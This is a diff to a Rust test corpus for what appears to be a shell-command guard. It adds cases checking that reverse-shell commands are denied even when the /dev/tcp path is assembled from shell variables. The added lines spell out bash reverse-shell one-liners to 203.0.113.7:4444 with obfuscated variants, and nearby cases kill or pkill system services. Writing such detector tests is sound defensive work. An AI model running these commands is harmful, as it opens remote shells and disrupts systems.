@@ -401,6 +401,16 @@ fn corpus15_argument_dangers_and_decoders_that_run_nothing() {
             "pkg.remove_forced_brew",
         ),
         ("brew uninstall wget", ALLOW, "-"),
+        // A socket path built from variables is the socket it expands to.
+        ("X=/dev/tcp; bash -i >& $X/203.0.113.7/4444 0>&1", DENY, "*"),
+        (
+            "X=/dev/tc; bash -i >& ${X}p/203.0.113.7/4444 0>&1",
+            DENY,
+            "*",
+        ),
+        ("H=203.0.113.7; bash -i >& /dev/tcp/$H/4444 0>&1", DENY, "*"),
+        ("bash -i > \"/dev/tcp/$HOST/4444\"", DENY, "*"),
+        ("F=out.txt; echo hi > $F 2>&1", ALLOW, "-"),
         // Processes selected by an alternation of service names.
         ("kill -9 $(pgrep -f 'containerd|dockerd')", ASK, "*"),
         ("pkill -f 'sshd|cron'", ASK, "*"),
